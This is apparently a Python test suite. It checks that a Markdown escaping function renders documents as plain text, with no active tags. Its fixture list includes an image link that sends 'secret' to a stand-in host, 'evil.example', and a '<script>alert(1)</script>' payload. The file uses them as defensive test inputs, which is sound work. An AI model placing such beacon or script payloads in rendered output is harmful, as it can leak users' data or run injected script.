"""What documents say in Markdown stays text: a real renderer makes nothing else of it."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from service.wording.markdown import escaped

ACTIVE = [
    "![x](http://evil.example?d=secret)", "[a](b)", "<script>alert(1)</script>", "<b>", "**bold**", "_it_",
    "`code`", "# heading", "> quote", "- item", "1. item", "12) item", "~~gone~~", "\\", "&amp;", "<http://a.b>",
    "[a]: http://b", "***", "---", "a_b_c", "2 * 3", "p. 5", "| a | b |", "===", "+ one", "[3]", "http://a.b",
    "|---|---|", "    code", "word\n===", "a | b\n--|--\n1 | 2",
]  # fmt: skip


class Read(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.text = set(), ""
        self.feed(html)

    def handle_starttag(self, tag, _):
        self.tags.add(tag)

    def handle_data(self, data):
        self.text += data


def read(text):
    return Read(MarkdownIt("gfm-like", {"linkify": False}).render(escaped(text)))


@pytest.mark.parametrize("text", ACTIVE)
def test_markup_is_shown_as_it_stands(text):
    shown = read(text)
    assert shown.tags <= {"p"}
    assert "".join(shown.text.split()) == "".join(text.split())


@given(st.lists(st.sampled_from([*ACTIVE, "word", "\n", "\n\n", " "]), max_size=8).map("".join))
def test_whatever_a_document_holds_nothing_in_it_acts(text):
    shown = read(text)
    assert shown.tags <= {"p"}
    assert re.sub(r"\s", "", shown.text) == re.sub(r"\s", "", text)
